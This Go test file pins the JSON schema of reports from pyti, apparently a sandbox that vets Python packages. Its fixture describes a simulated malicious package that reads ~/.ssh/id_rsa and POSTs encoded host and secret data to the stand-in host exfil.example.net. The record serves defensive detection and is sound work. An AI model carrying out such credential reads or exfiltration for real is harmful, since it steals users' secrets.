package report

import (
	"bytes"
	"encoding/json"
	"flag"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/pyti/pyti/internal/buildinfo"
)

var update = flag.Bool("update", false, "rewrite testdata/golden/report.json from the representative report")

// representative is a matrix report of two cells with every section and every field filled but
// the per-environment results of a run on one environment, which single fills
// (TestGoldenFieldsFilled checks both).
func representative() *Report {
	at := func(s int) time.Time { return time.Date(2026, 3, 1, 12, 0, s, 500_000_000, time.UTC) }
	br, score, pylintKLOC := 59.1, 9.04, 23.53
	behavior := &Behavior{Events: 145, EventsDropped: 3, FilesRead: 73, FilesWritten: 2, Processes: 3,
		Executed:        []string{"/work/venv/bin/python -m pip install demo"},
		NetworkAttempts: []string{"203.0.113.7:443"}, DNSQueries: []string{"exfil.example.net"},
		Contacts: []Contact{{Transport: "tcp", Name: "exfil.example.net", Address: "198.18.0.2:80", Protocol: "http", Method: "POST",
			URL: "http://exfil.example.net/u?d=aG9zdA", SNI: "exfil.example.net", Headers: []string{"Host: exfil.example.net"},
			Data: "k=c2VjcmV0", Decoded: []string{"host", "secret"}, Size: 120, Truncated: true}},
		ContactsDropped: 1}
	phase := func(outcome string, ms float64) Phase {
		return Phase{Outcome: outcome, ExitCode: 1, Reason: "step " + outcome, WallMS: ms, CPUMS: ms / 2, PeakMemory: 19 << 20,
			Command: []string{"/work/venv/bin/python", "-I", "step.py"}, Behavior: behavior}
	}
	background := &Background{Threads: 2, ThreadsLeft: 1, ThreadsWaitedS: 0.5, Processes: 1, ProcessesLeft: 1, ProcessWaitedS: 10}
	wheel := File{Filename: "demo-1.0-py3-none-any.whl", Kind: "wheel", SHA256: strings.Repeat("ab", 32), Size: 1800,
		URL: "http://127.0.0.1:3141/files/demo-1.0-py3-none-any.whl", Yanked: true, Chosen: true}
	results := func(image string) TargetResults {
		return TargetResults{
			Fetch: &Fetch{Phase: phase("ok", 2000), Wheelhouse: []File{wheel}, IndexRequests: 4, Tools: []string{"pytest"}, TestExtras: []string{"test"}, TestRequirements: []string{"pytest-mock>=3"},
				MissingTestDeps: []string{"pretend"}, UnmetTestDeps: []string{"hypothesis>=99"}, RelaxedTestDeps: []string{"freezegun==1.1.0"},
				UnfetchableTestDeps: []string{"cryptography>=3.4.0"}, UnfetchableBecause: []string{"cryptography>=3.4.0: ERROR: No matching distribution found for ply"}, OtherTestDepsFetched: true, StaticMetadata: true, PreparedMetadata: true,
				OnHost: []string{"build requirements"}},
			Build: &Build{Phase: phase("exit", 2100), Wheel: wheel.Filename, Skipped: "a wheel was analysed",
				Compilers: []string{"gcc -c demo/_accel.c"}, ErrorLines: []string{"error: demo/_accel.c:3: expected ';'"},
				Frontend: "pip", FrontendNote: "the backend needs pip's isolation",
				Fallback: "a compiler failed (demo/_accel.c:3: error: expected ';'), and the wheel is pure Python (demo-1.0-py3-none-any.whl): the package was built without its compiled extension"},
			Install: &Install{Phase: phase("ok", 1400), Packages: []Package{{Name: "demo", Version: "1.0"}},
				ErrorLines: []string{"ERROR: no matching distribution"}},
			Import: &Import{Phase: phase("ok", 500), Nothing: "no module is importable by name", Pth: []string{"demo.pth"},
				Modules: []Module{{Name: "demo", OK: true, Error: "ModuleNotFoundError: No module named 'requests'", Missing: "requests",
					How: "sweep", TimedOut: true, Skipped: "the budget ran out", Seconds: 0.09, StandIns: []string{"requests"},
					StandInCalls: []string{"requests.get('http://exfil.example.net/')"},
					StandInPass: &StandInPass{OK: true, Error: "boom", StandIns: []string{"requests"},
						StandInCalls: []string{"requests.post('http://exfil.example.net/')"}, TimedOut: true, Background: background},
					Background: background, Swept: 2, SweepFailed: []ModuleError{{Name: "demo.win", Error: "no module named winreg"}},
					StoppedAt: "demo.slow"}}},
			Tests: &Tests{Phase: phase("exit", 1100), Runner: "pytest", Found: "tests/ (pytest)",
				Tested: "the installed copy of demo", DepsInstall: "cached", DepsNote: "they share a project with the environment",
				DepsLeftOut: []string{"flake8==4.0.1"}, DepsConflict: "flake8 4.0.1 depends on pyflakes<2.5.0 and >=2.4.0", ConftestMissing: "sortedcontainers", BrokenPlugin: "pytest_benchmark",
				CoverageNote: "coverage.py recorded nothing",
				Results: &TestRun{Counts: TestCounts{Passed: 1, Failed: 1, Errors: 1, Skipped: 1, XFailed: 1, XPassed: 1, Warnings: 1, Subtests: map[string]int{"passed": 2}},
					Complete: true, ExitStatus: 1, Running: "tests/test_demo.py::test_slow",
					Cases: []TestCase{
						{NodeID: "tests/test_demo.py::test_ok", Outcome: TestPassed, Duration: 0.01, UnderCoverage: "LeakCheckError: refcount increased by [4, 2, 2, 2]"},
						{NodeID: "demo/__init__.py::flake-8::FLAKE8", Outcome: TestPassed, Duration: 0.01, Plugin: "pytest-flake8"},
						{NodeID: "tests/test_demo.py::test_dep", Outcome: TestError, Class: ClassMissingDependency,
							Message: "ModuleNotFoundError: No module named 'pretend'", Details: "E   ModuleNotFoundError", Duration: 0.02,
							Missing: "pretend", MissingPath: "tests/data/x.json", MissingProgram: "git", MissingLocale: "de_DE.UTF-8", MissingService: "127.0.0.1:6379"},
						{NodeID: "tests/test_demo.py::test_order", Outcome: TestFailed, Class: ClassAssertion, Message: "assert state == {}", PassedAlone: true, UnknownMarks: []string{"freeze_time"}},
						{NodeID: "tests/test_cli.py", Outcome: TestError, Class: ClassMissingDependency, Missing: "sh", Message: "ModuleNotFoundError: No module named 'sh'", Defines: 20},
					},
					Classes: map[FailureClass]int{ClassMissingDependency: 1, ClassAssertion: 1},
					Suites:  []TestSuite{{Module: "tests/test_table.py", Protocol: "load_tests", Tests: 6}},
					LeftOut: []LeftOutTest{{NodeID: "tests/test_table.py::test_main", Reason: "it runs the module's tests with unittest.main(), as `python FILE` would: a runner, not a test"}},
					Scripts: []string{"test/testlex.py"}, Stopped: &TestStop{Next: "tests/test_b.py::test_last", NotRun: 12}},
				Skipped: []SkipReason{{Reason: "needs Windows", Count: 1}, {Reason: "lxml not installed", Count: 2,
					Messages: []string{"lxml seems not to be present", "lxml not installed, cannot parse XML document"}}},
				Coverage: &Coverage{LinePercent: 69.9, BranchPercent: &br, Percent: 65.8, Statements: 73, Covered: 51, Branches: 22,
					CoveredBr: 13, Source: []string{"demo"}, Files: []FileCoverage{{Path: "demo/__init__.py", Percent: 65.8, Statements: 73, Missing: 22}},
					TestFilesLeftOut: 2, Excluded: 20, CompiledUnmeasured: 1, Note: "the project's coverage plugins are not used, nor the options they set: ModuleNotFoundError: No module named 'covdefaults'"}},
			CodeRan: []string{"import (1 by name) on " + image},
		}
	}
	first := results("host")
	return &Report{
		Schema: Schema, ID: "20260301T120000-demo", CreatedAt: at(0),
		PYTI:    buildinfo.Info{Version: "v1.2.3", Commit: "0123456789ab", Dirty: true, Go: "go1.26.0"},
		Request: Request{Spec: "demo==1.0", IndexURL: "http://127.0.0.1:3141/simple/", Local: true},
		Project: "demo", Version: "1.0", Verdict: VerdictHarmful, Reason: "/home/pyti/.ssh/id_rsa — Credential file read",
		Environment: Environment{Python: "3.11.2", Sandbox: "bwrap", Image: "bookworm", ImageID: "sha256:" + strings.Repeat("cd", 32),
			OS: "linux/amd64", Traced: true},
		Files: []File{wheel},
		Run: &RunRecord{Parallel: 2, Start: at(0), End: at(9), WallMS: 9000, Initial: []string{"request"},
			Data: []Datum{{Name: "release", Type: "tasks.Release", Provider: "resolve", Present: true}},
			Tasks: []TaskRecord{{Name: "build@host", Needs: []string{"source"}, Optional: []string{"wheelhouse"}, Provides: []string{"wheel"},
				TimeoutMS: 1.2e6, Status: StatusSkipped, Reason: `needs "wheel" from "build", which failed`, Error: "exit status 1",
				Cause: "fetch@host", PanicStack: "goroutine 1 [running]:", Start: at(1), End: at(3), WallMS: 2000, CPUMS: 1500, PeakRSSBytes: 64 << 20}}},
		Metadata: &Metadata{MetadataVersion: "2.1", Name: "demo", Version: "1.0", Summary: "A demo", Description: "# demo",
			DescriptionContentType: "text/markdown", License: "MIT", RequiresPython: ">=3.8", RequiresDist: []string{"requests>=2"},
			ProvidesExtra: []string{"test"}, Classifiers: []string{"License :: OSI Approved :: MIT License"}, Author: "Sam Ple",
			HomePage: "https://github.com/o/demo", ProjectURLs: map[string]string{"Homepage": "https://example.org/demo"}},
		Problems:  []Problem{{Field: "classifier", Severity: "warning", Message: "not a known classifier"}},
		Packaging: &Packaging{Score: 8, Max: 10, Reasons: []Reason{{Check: "has-license", Passed: true, Weight: 2, Detail: "License: MIT"}}},
		Findings: []Finding{{Source: "behavior", View: ViewBoth, Phase: "fetch", Image: "host", RuleID: "decoy-credential-read",
			Severity: SeverityCritical, Title: "Credential file read", Message: "python3 opened /home/pyti/.ssh/id_rsa",
			Evidence: []Evidence{{Kind: "file-read", Time: at(2), PID: 3570, PPID: 3415, Program: "python3", Syscall: "openat",
				Detail: "/home/pyti/.ssh/id_rsa", File: "setup.py", Line: 7, Result: "3"}},
			Count: 1, Outcome: "done"}},
		Lint: &Lint{Phase: phase("ok", 1400), Quality: Quality{Scope: "the Python modules the wheel installs", Linted: []string{"demo/__init__.py", "demo/_table.py"}, TooBig: []string{"demo/_table.py"}, Generated: []string{"demo/_table.py"},
			TestsLeftOut: []string{"demo/tests/test_x.py"}, TestFiles: 1, Files: 1, Lines: 85, Pycodestyle: map[string]int{"E501": 4},
			StyleTotal: 4, Pyflakes: []LintMessage{{Path: "demo/__init__.py", Line: 1, Code: "F401", Message: "'os' imported but unused"}},
			FlakesTotal: 1, Pylint: &Pylint{Score: &score, ByCategory: map[string]int{"convention": 2}, BySymbol: map[string]int{"missing-docstring": 2},
				Total: 2, Messages: []LintMessage{{Path: "demo/__init__.py", Line: 1, Code: "C0114", Message: "Missing module docstring"}}, Disabled: []string{"duplicate-code"}},
			PerKLOC: PerKLOC{Pycodestyle: 47.06, Pyflakes: 11.76, Pylint: &pylintKLOC}}},
		Matrix: []Cell{
			{Image: ImageRef{Name: "host", Python: "3.11.2", OS: "linux/amd64"}, Verdict: VerdictHarmful, Reason: "a critical finding", TargetResults: first},
			{Image: ImageRef{Name: "bookworm", ID: "sha256:" + strings.Repeat("cd", 32), Release: "bookworm", Python: "3.11.2", OS: "linux/amd64"},
				Verdict: VerdictNotApplicable, Reason: "Requires-Python >=3.12", TargetResults: results("bookworm")},
		},
		Artifacts: []Artifact{{Task: "test@host", Name: "pytest report", Path: "raw/test@host/pytest.jsonl", Size: 2048,
			SHA256: strings.Repeat("ef", 32), MediaType: "application/x-ndjson"}},
	}
}

// single is the representative report as a run on one environment writes it: its results in
// the report's own fields, and no matrix.
func single() *Report {
	r := representative()
	r.TargetResults, r.Matrix = r.Matrix[0].TargetResults, nil
	return r
}

// encode is the report as PYTI writes report.json.
func encode(t *testing.T, r *Report) []byte {
	t.Helper()
	data, err := json.MarshalIndent(r, "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	return append(data, '\n')
}

// zeroes is a report whose every object is there with every field at its zero value (each
// pointer set, each array of one element), so that its golden file pins which fields an empty
// value leaves out and which it shows.
func zeroes() *Report {
	var fill func(v reflect.Value, depth int)
	fill = func(v reflect.Value, depth int) {
		if depth > 20 {
			return
		}
		switch v.Kind() {
		case reflect.Pointer:
			v.Set(reflect.New(v.Type().Elem()))
			fill(v.Elem(), depth+1)
		case reflect.Slice:
			v.Set(reflect.MakeSlice(v.Type(), 1, 1))
			fill(v.Index(0), depth+1)
		case reflect.Struct:
			if v.Type() == reflect.TypeFor[time.Time]() {
				return
			}
			for i := range v.NumField() {
				if v.Type().Field(i).IsExported() {
					fill(v.Field(i), depth+1)
				}
			}
		}
	}
	r := &Report{}
	fill(reflect.ValueOf(r).Elem(), 0)
	return r
}

// TestGolden pins the JSON of pyti.report/v2: a change of a field's name, type or omission shows
// here. Run with -update to rewrite the golden files after a deliberate addition (docs/report-schema.md too).
func TestGolden(t *testing.T) {
	for name, r := range map[string]*Report{"report.json": representative(), "single.json": single(), "zero.json": zeroes()} {
		t.Run(name, func(t *testing.T) { golden(t, filepath.Join("testdata", "golden", name), r) })
	}
}

func golden(t *testing.T, path string, r *Report) {
	got := encode(t, r)
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(got)); d != "" {
		t.Errorf("the report's JSON changed (-%s +now); if that is meant, run go test ./internal/report -run TestGolden -update:\n%s", path, d)
	}
	// The golden file reads back into the same report.
	var back Report
	dec := json.NewDecoder(bytes.NewReader(want))
	dec.DisallowUnknownFields()
	if err := dec.Decode(&back); err != nil {
		t.Fatal(err)
	}
	if d := cmp.Diff(string(want), string(encode(t, &back))); d != "" {
		t.Errorf("the golden report does not survive decoding (-file +decoded and encoded again):\n%s", d)
	}
}

// TestGoldenFieldsFilled: every field of every type the report holds is set somewhere in the
// representative report or its single-environment form, so that the golden files pin each one;
// a field added to the schema must be added there too.
func TestGoldenFieldsFilled(t *testing.T) {
	set := map[string]bool{}
	var walk func(v reflect.Value)
	walk = func(v reflect.Value) {
		switch v.Kind() {
		case reflect.Pointer, reflect.Interface:
			if !v.IsNil() {
				walk(v.Elem())
			}
		case reflect.Slice, reflect.Array:
			for i := range v.Len() {
				walk(v.Index(i))
			}
		case reflect.Struct:
			if v.Type() == reflect.TypeFor[time.Time]() {
				return
			}
			for i := range v.NumField() {
				if !v.Field(i).IsZero() {
					set[v.Type().Name()+"."+v.Type().Field(i).Name] = true
				}
				walk(v.Field(i))
			}
		}
	}
	walk(reflect.ValueOf(representative()))
	walk(reflect.ValueOf(single()))
	var missing []string
	seen := map[reflect.Type]bool{}
	var fields func(t reflect.Type)
	fields = func(t reflect.Type) {
		switch t.Kind() {
		case reflect.Pointer, reflect.Slice, reflect.Array, reflect.Map:
			fields(t.Elem())
		case reflect.Struct:
			if seen[t] || t == reflect.TypeFor[time.Time]() {
				return
			}
			seen[t] = true
			for i := range t.NumField() {
				f := t.Field(i)
				if f.Tag.Get("json") == "-" {
					continue
				}
				if name := t.Name() + "." + f.Name; !set[name] {
					missing = append(missing, name)
				}
				fields(f.Type)
			}
		}
	}
	fields(reflect.TypeFor[Report]())
	slices.Sort(missing)
	if len(missing) > 0 {
		t.Errorf("the representative report leaves these fields empty, so the golden file does not pin them: %v", missing)
	}
}
